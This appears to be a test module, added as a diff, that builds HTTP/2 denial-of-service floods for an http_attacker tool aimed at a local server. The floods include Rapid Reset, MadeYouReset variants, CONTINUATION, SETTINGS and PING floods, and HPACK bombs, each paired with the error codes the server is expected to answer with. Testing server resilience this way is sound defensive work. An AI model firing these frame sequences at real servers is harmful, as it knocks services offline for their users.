@@ -1,0 +1,145 @@
+"""Attacks that are a matter of speed, as scripts for http_attacker: a greeting, and a turn that it repeats.
+
+A turn's frames may be on streams of its own, Turn(0), Turn(2), ..., or of those of the turn before it.
+"""
+import collections
+import struct
+
+from h2raw import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, FRAME_SIZE_ERROR, HEADERS,
+                   INITIAL_WINDOW_SIZE, PADDED, PING, PREFACE, PRIORITY, PROTOCOL_ERROR, RST_STREAM, SETTINGS,
+                   STREAM_CLOSED, WINDOW_UPDATE, block, frame, indexed, integer, literal, settings)
+
+Turn = collections.namedtuple("Turn", "plus")
+HELLO = PREFACE + frame(SETTINGS, 0, 0)
+LARGEST_WINDOW = (1 << 31) - 1
+UNKNOWN = 0xfa
+WHOLE = END_HEADERS | END_STREAM
+BATCH = 50  # streams of a turn that waits for the server
+
+
+def head(path, method="GET", *fields):
+    return block([(":method", method), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"), *fields])
+
+
+def word(n):
+    return struct.pack(">I", n)
+
+
+def script(greeting, turn=(), step=2):
+    """As http_attacker reads it. `turn` is a list of the arguments of h2raw.frame."""
+    raw, marks = b"", b""
+    for kind, flags, stream, payload in turn:
+        if isinstance(stream, Turn):
+            marks += struct.pack(">Ii", len(raw) + 5, stream.plus)
+        raw += frame(kind, flags, 0 if isinstance(stream, Turn) else stream, payload)
+    return struct.pack(">IIII", len(greeting), len(raw), len(marks) // 8, step) + marks + greeting + raw
+
+
+class Flood:
+    """`ends`: with which codes the server ends its connections; none: it may serve it. `options` are those of
+    http_attacker."""
+
+    def __init__(self, greeting, turn=(), step=2, ends=(ENHANCE_YOUR_CALM,), options=("-r",)):
+        self.script = script(greeting, turn, step)
+        self.ends, self.options = ends, options
+
+    @property
+    def is_deaf(self):
+        """It does not hear why it is ended, or does not care."""
+        return bool({"-d", "-h"} & set(self.options))
+
+
+def open_then(opening, kill, path="/f/hang", method="GET"):
+    """Live work that is ended, in turns: those of the last turn by `kill`, once the server has begun them."""
+    greeting = HELLO + b"".join(frame(HEADERS, opening, 1 + 2 * i, head(path, method)) for i in range(BATCH))
+    turn = [(kind, flags, Turn(2 * i - 2 * BATCH), payload) for i in range(BATCH) for kind, flags, payload in kill]
+    turn += [(HEADERS, opening, Turn(2 * i), head(path, method)) for i in range(BATCH)]
+    return {"greeting": greeting, "turn": turn + [(PING, 0, 0, b"are they")], "step": 2 * BATCH}
+
+
+def live(opening, *kill, path="/f/hang", method="GET", **more):
+    return Flood(**open_then(opening, kill, path, method), options=("-r", "-w"), **more)
+
+
+def filler(n):
+    """A piece of a header block of about n bytes, which is whole fields."""
+    return literal("x-filler", "a" * max(n - 12, 0))
+
+
+BIG = literal("x-bomb", "b" * 3900, index=True)  # fills the table of 4096 bytes
+
+HANGS = frame(HEADERS, WHOLE, 1, head("/f/hang"))
+UPLOAD = frame(HEADERS, END_HEADERS, 1, head("/f/upload", "POST"))
+ANSWERED = frame(HEADERS, WHOLE, 1, head("/p/hello"))
+BLOCK = frame(HEADERS, END_STREAM, 1, head("/p/hello"))
+SETTING = settings({INITIAL_WINDOW_SIZE: 65535})
+PINGS = [(PING, 0, 0, b"pingpong")]
+CANCELS = (RST_STREAM, 0, word(CANCEL))
+
+# Those of a group run at once.
+FLOODS = {
+    # CVE-2023-44487; and when the server has begun the work.
+    "rapid_reset": {
+        "at once": Flood(HELLO, [(HEADERS, WHOLE, Turn(0), head("/f/hang")), (RST_STREAM, 0, Turn(0), word(CANCEL))]),
+    },
+    "rapid_reset_of_live_work": {
+        "once it has begun": live(WHOLE, CANCELS),
+    },
+    "live_work_and_leave": {
+        "once it has begun": Flood(HELLO + b"".join(
+            frame(HEADERS, WHOLE, 1 + 2 * i, head("/f/hang")) for i in range(2 * BATCH)),
+            [(PING, 0, 0, b"are they")], ends=(), options=("-r", "-w", "-x", "-k", "1")),
+    },
+    "work_that_drains_slowly": {
+        "once it has begun": live(WHOLE, CANCELS, path="/f/stubborn?ms=1000"),
+    },
+    # CVE-2025-8671: the server resets. For some of this it ends the connection at once.
+    "made_you_reset": {
+        "a window of 0": live(WHOLE, (WINDOW_UPDATE, 0, word(0)), ends=(ENHANCE_YOUR_CALM, PROTOCOL_ERROR)),
+        "a window that overflows": live(WHOLE, (WINDOW_UPDATE, 0, word(LARGEST_WINDOW))),
+        "DATA after the end": live(WHOLE, (DATA, 0, b"more"), ends=(ENHANCE_YOUR_CALM, STREAM_CLOSED)),
+        "HEADERS after the end": live(WHOLE, (HEADERS, END_HEADERS, head("/f/hang")),
+                                      ends=(ENHANCE_YOUR_CALM, STREAM_CLOSED)),
+        "PRIORITY of 4 bytes": live(WHOLE, (PRIORITY, 0, b"four"), ends=(ENHANCE_YOUR_CALM, FRAME_SIZE_ERROR)),
+        "trailers without an end": live(END_HEADERS, (HEADERS, END_HEADERS, block([("x", "y")])), method="POST"),
+        "a body too long": Flood(HELLO, [
+            (HEADERS, END_HEADERS, Turn(0), head("/f/hang", "POST", ("content-length", "1"))),
+            (DATA, 0, Turn(0), b"more than one")]),
+        "a malformed request": Flood(HELLO, [(HEADERS, WHOLE, Turn(0), head("/f/hang", "GET", ("Upper", "case")))]),
+    },
+    "continuation": {
+        "empty": Flood(HELLO + BLOCK, [(CONTINUATION, 0, 1, b"")]),
+        "small": Flood(HELLO + BLOCK, [(CONTINUATION, 0, 1, filler(16))]),
+        "large": Flood(HELLO + BLOCK, [(CONTINUATION, 0, 1, filler(16000))]),
+    },
+    "settings": {
+        "read": Flood(HELLO, [(SETTINGS, 0, 0, SETTING)]),
+        "not read": Flood(HELLO, [(SETTINGS, 0, 0, SETTING)], options=("-r", "-d")),
+        "of 2000 values": Flood(HELLO + HANGS, [(SETTINGS, 0, 0, SETTING * 2000)]),
+    },
+    "ping": {
+        "read": Flood(HELLO, PINGS),
+        "not read": Flood(HELLO, PINGS, options=("-r", "-d")),
+        "holds on": Flood(HELLO, PINGS, options=("-r", "-h", "-c", "20")),
+    },
+    "frames_that_ask_for_nothing": {
+        "empty DATA": Flood(HELLO + UPLOAD, [(DATA, 0, 1, b"")]),
+        "DATA of padding": Flood(HELLO + UPLOAD, [(DATA, PADDED, 1, b"\0")]),
+        "empty HEADERS": Flood(HELLO, [(HEADERS, WHOLE, Turn(0), b"")]),
+        "PRIORITY": Flood(HELLO, [(PRIORITY, 0, Turn(0), word(0) + b"\x10")]),
+        "of unknown types": Flood(HELLO, [(UNKNOWN, 0, 0, b"")]),
+        "WINDOW_UPDATE of a closed stream": Flood(HELLO + ANSWERED, [(WINDOW_UPDATE, 0, 1, word(1))]),
+        "WINDOW_UPDATE of the connection": Flood(HELLO, [(WINDOW_UPDATE, 0, 0, word(1))]),
+        "RST_STREAM of a closed stream": Flood(HELLO + ANSWERED, [(RST_STREAM, 0, 1, word(CANCEL))]),
+    },
+    # What HPACK makes of few bytes; the last is allowed, and no more than a request.
+    "hpack": {
+        "a bomb": Flood(HELLO + frame(HEADERS, WHOLE, 1, head("/p/hello") + BIG),
+                        [(HEADERS, WHOLE, Turn(0), head("/p/hello") + indexed(62) * 4000)]),
+        "fields of one byte": Flood(HELLO, [(HEADERS, WHOLE, Turn(0), head("/p/hello") + indexed(19) * 15000)]),
+        "large literals": Flood(HELLO, [(HEADERS, WHOLE, Turn(0), head("/p/hello") + filler(15000))],
+                                ends=()),
+        "sizes of the table": Flood(HELLO, [(HEADERS, WHOLE, Turn(0), integer(0, 5, 0x20) * 1000 + head("/p/hello"))],
+                                    ends=()),
+    },
+}
